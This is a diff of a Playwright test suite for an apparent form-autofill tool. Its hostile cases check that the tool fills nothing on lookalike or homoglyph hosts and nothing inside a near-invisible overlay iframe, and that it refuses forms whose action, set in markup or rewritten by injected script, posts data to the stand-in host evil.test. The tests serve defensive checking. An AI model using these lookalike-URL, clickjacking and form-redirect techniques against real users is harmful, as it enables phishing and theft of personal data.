@@ -1,8 +1,7 @@
 import { expect, type Page } from '@playwright/test';
 import type { HostileCase } from '../case.ts';
 import { base, huid, type PlaceName, places } from '../form.ts';
-import { expectCard, expectNoCard, fillFromPanel, type Lab, outcome, press, pressNow, previewOf, tickAll } from '../lab.ts';
-import { zoeFilled } from '../people.ts';
+import { expectCard, expectNoCard, fillFromPanel, type Lab, only, outcome, press, pressNow, previewOf, tickAll } from '../lab.ts';
 
 const path = '/forms/guest/';
 const hmsForm = base({ title: places.hms.title });
@@ -15,13 +14,20 @@ async function expectNothing(lab: Lab, page: Page): Promise<void> {
   await expect(panel.getByRole('button', { name: /^Fill/ })).toHaveCount(0);
 }
 
-const notOurs = (id: string, title: string, url: string): HostileCase => ({
+/** The form of a place, at an address that is not that place's. */
+export const notOurs = (id: string, title: string, url: string, place: PlaceName = 'hms'): HostileCase => ({
   id,
   title: `${title}: nothing is said, nothing is filled`,
-  run: async (lab) => expectNothing(lab, await lab.open(url, hmsForm)),
+  run: async (lab) => {
+    // The browser asks for the address without the name of a user.
+    const asked = new URL(url);
+    asked.username = '';
+    lab.serve(asked.href, base({ title: places[place].title }));
+    await expectNothing(lab, await lab.open(url, base({ title: places[place].title })));
+  },
 });
 
-const refusedForm = (id: string, title: string, change: Parameters<typeof base>[0], place: PlaceName = 'o2'): HostileCase => ({
+const refusedForm = (id: string, title: string, change: Parameters<typeof base>[0], place?: PlaceName): HostileCase => ({
   id,
   title: `${title}: refused, with the reason`,
   run: async (lab) => {
@@ -43,7 +49,7 @@ export const destination: readonly HostileCase[] = [
   notOurs('H02', 'plain http', `http://it.hms.harvard.edu${path}`),
   notOurs('H03', 'another port of our host', `https://it.hms.harvard.edu:8443${path}`),
   notOurs('H04', 'our host with a closing dot', `https://it.hms.harvard.edu.${path}`),
-  notOurs('H05a', 'our host as a user name', `https://it.hms.harvard.edu@evil.test${path}`.replace('it.hms.harvard.edu@', '')),
+  notOurs('H05a', 'our host as a user name', `https://it.hms.harvard.edu@evil.test${path}`),
   notOurs('H05b', 'a host below ours', `https://x.it.hms.harvard.edu${path}`),
   notOurs('H05c', 'a host that looks like ours', `https://ithms.harvard.edu${path}`),
   notOurs('H05d', 'a host with a letter of another alphabet', `https://${new URL('https://іt.hms.harvard.edu').host}${path}`),
@@ -88,15 +94,16 @@ export const destination: readonly HostileCase[] = [
     title: 'a sandboxed document at the right address is nobody',
     run: async (lab) => {
       const headers = { 'content-security-policy': 'sandbox allow-scripts allow-forms' };
-      await expectNothing(lab, await lab.open(places.o2.url, base(), { headers }));
+      await expectNothing(lab, await lab.open(places[lab.place].url, base({ title: places[lab.place].title }), { headers }));
     },
   },
   {
     id: 'H10',
     title: 'our form framed by another site: nothing in the frame, nothing for the site around it',
     run: async (lab) => {
-      lab.serve(places.o2.url, base());
-      const frame = `<iframe src="${places.o2.url}" style="opacity:.01;position:fixed;inset:0"></iframe>`;
+      const { url, title } = places[lab.place];
+      lab.serve(url, base({ title }));
+      const frame = `<iframe src="${url}" style="opacity:.01;position:fixed;inset:0"></iframe>`;
       await expectNothing(lab, await lab.open('https://evil.test/', `<!doctype html><title>e</title>${frame}`));
     },
   },
@@ -107,18 +114,18 @@ export const destination: readonly HostileCase[] = [
       lab.serve('https://evil.test/f', base());
       const page = await lab.form({ after: '<iframe src="https://evil.test/f"></iframe>' });
       expect((await fillFromPanel(lab, page)).said).toContain('4 fields filled');
-      lab.allow(page, zoeFilled);
+      lab.allow(page, lab.filled);
     },
   },
   {
     id: 'H12',
     title: 'the form itself in a sandboxed frame: the frame is not touched',
     run: async (lab) => {
-      const inner = places.hms.url;
-      lab.serve(inner, hmsForm);
-      const page = await lab.form({ after: `<iframe sandbox="allow-scripts allow-forms" src="${inner}"></iframe>` });
+      const inner = lab.place === 'hms' ? places.o2 : places.hms;
+      lab.serve(inner.url, base({ title: inner.title }));
+      const page = await lab.form({ after: `<iframe sandbox="allow-scripts allow-forms" src="${inner.url}"></iframe>` });
       expect((await fillFromPanel(lab, page)).said).toContain('4 fields filled');
-      lab.allow(page, zoeFilled);
+      lab.allow(page, lab.filled);
     },
   },
   refusedForm('H14a', 'a form that sends to another site', { form: 'action="https://evil.test/c"' }),
@@ -142,7 +149,7 @@ export const destination: readonly HostileCase[] = [
     run: async (lab) => {
       const page = await lab.form({ script: "fn.oninput=()=>req.setAttribute('action','https://evil.test/c')" });
       await fillFromPanel(lab, page);
-      lab.allow(page, { fn: zoeFilled.fn });
+      lab.allow(page, only(lab, 'fn'));
     },
   },
   {
@@ -162,7 +169,7 @@ export const destination: readonly HostileCase[] = [
       await tickAll(panel);
       await press(panel);
       await expect(panel.locator('.hag-report')).toContainText('3 fields filled');
-      lab.allow(page, { fn: zoeFilled.fn, ln: zoeFilled.ln, em: zoeFilled.em });
+      lab.allow(page, only(lab, 'fn', 'ln', 'em'));
     },
   },
   {
